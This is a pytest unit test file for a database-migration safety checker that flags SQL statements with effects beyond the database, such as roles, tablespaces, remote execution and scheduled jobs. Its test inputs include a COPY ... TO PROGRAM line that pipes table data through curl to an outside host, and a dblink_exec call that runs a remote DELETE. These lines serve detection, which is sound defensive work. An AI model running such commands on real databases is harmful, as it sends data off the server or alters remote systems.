"""Statements whose effects reach past the database, found before a replay runs anything."""

from __future__ import annotations

import pytest

from pgshift.safety.external import external_effects
from tests.unit.safety.helpers import migration


def found(sql: str) -> list[str]:
    return [e.what for e in external_effects([migration(sql)])]


@pytest.mark.parametrize(
    ("sql", "what"),
    [
        ("CREATE ROLE app LOGIN;", "CREATE ROLE"),
        ("ALTER ROLE app SET search_path = x;", "ALTER ROLE ... SET"),
        ("DROP ROLE app;", "DROP ROLE"),
        ("GRANT pg_monitor TO app;", "GRANT/REVOKE of a role"),
        ("REVOKE pg_monitor FROM app;", "GRANT/REVOKE of a role"),
        ("ALTER DATABASE app SET work_mem = '1GB';", "ALTER DATABASE ... SET"),
        ("ALTER DATABASE app RENAME TO app2;", "ALTER DATABASE ... RENAME"),
        ("ALTER DATABASE app OWNER TO x;", "ALTER DATABASE ... OWNER TO"),
        ("ALTER ROLE a RENAME TO b;", "ALTER ROLE ... RENAME"),
        ("ALTER TABLE t SET TABLESPACE fast;", "SET TABLESPACE"),
        ("CREATE TABLE t (id int) TABLESPACE fast;", "TABLESPACE fast"),
        ("CREATE INDEX i ON t (id) TABLESPACE fast;", "TABLESPACE fast"),
        ("ALTER SYSTEM SET work_mem = '1GB';", "ALTER SYSTEM"),
        ("CREATE TABLESPACE fast LOCATION '/ssd';", "CREATE TABLESPACE"),
        ("ALTER TABLE ALL IN TABLESPACE a SET TABLESPACE b;", "ALTER ... ALL IN TABLESPACE"),
        ("CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p;", "CREATE SUBSCRIPTION"),
        ("SELECT dblink_exec('host=x', 'DELETE FROM t');", "dblink_exec()"),
        ("SELECT cron.schedule('nightly', '0 3 * * *', 'VACUUM');", "cron.schedule()"),
        ("DO $$ BEGIN PERFORM cron.schedule('x', '* * * * *', 'SELECT 1'); END $$;",
         "cron.schedule() in a body"),
        ("COPY t TO PROGRAM 'curl -d @- http://x';", "COPY ... PROGRAM"),
        ("COMMENT ON DATABASE app IS 'x';", "COMMENT ON DATABASE"),
    ],
)
def test_each_kind_is_named(sql: str, what: str) -> None:
    assert found(sql) == [what]


def test_writes_to_a_foreign_table_the_source_creates() -> None:
    sql = (
        "CREATE FOREIGN TABLE remote_orders (id int) SERVER other;\n"
        "INSERT INTO remote_orders VALUES (1);\n"
        "UPDATE public.remote_orders SET id = 2;\n"
        "SELECT * FROM remote_orders;\n"
    )
    assert found(sql) == [
        "INSERT on foreign table remote_orders", "UPDATE on foreign table remote_orders",
    ]


def test_writes_into_a_schema_of_imported_foreign_tables() -> None:
    sql = (
        "IMPORT FOREIGN SCHEMA remote FROM SERVER other INTO mirror;\n"
        "DELETE FROM mirror.orders WHERE id = 1;\n"
        "DELETE FROM local_orders WHERE id = 1;\n"
    )
    assert found(sql) == ["DELETE on foreign table orders"]


def test_what_stays_in_the_database_is_not_named() -> None:
    sql = (
        "CREATE TABLE t (id int);\n"
        "GRANT SELECT ON t TO app;\n"
        "COMMENT ON TABLE t IS 'x';\n"
        "CREATE EXTENSION IF NOT EXISTS pgcrypto;\n"
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;\n"
        "INSERT INTO t VALUES (1);\n"
    )
    assert found(sql) == []


def test_each_effect_names_its_file_and_line() -> None:
    (effect,) = external_effects([migration("CREATE TABLE t (id int);\n\nCREATE ROLE x;\n")])
    assert effect.describe() == "drizzle/0001_test.sql:3: CREATE ROLE"
